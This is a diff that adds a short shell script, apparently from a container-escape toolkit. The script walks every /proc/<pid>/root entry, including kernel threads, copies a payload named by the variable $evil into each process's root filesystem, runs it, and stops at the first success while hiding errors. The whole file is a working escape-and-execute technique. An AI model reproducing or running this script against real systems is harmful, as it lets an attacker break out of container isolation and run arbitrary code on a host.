@@ -1,0 +1,7 @@
+# shellcheck shell=sh
+#
+# process-roots - go to the rootfs through the root of each process, kernel threads included
+#
+for process in /proc/[0-9]*; do
+	cp $evil "$process/root/evil" && "$process/root/evil" && break
+done 2>/dev/null
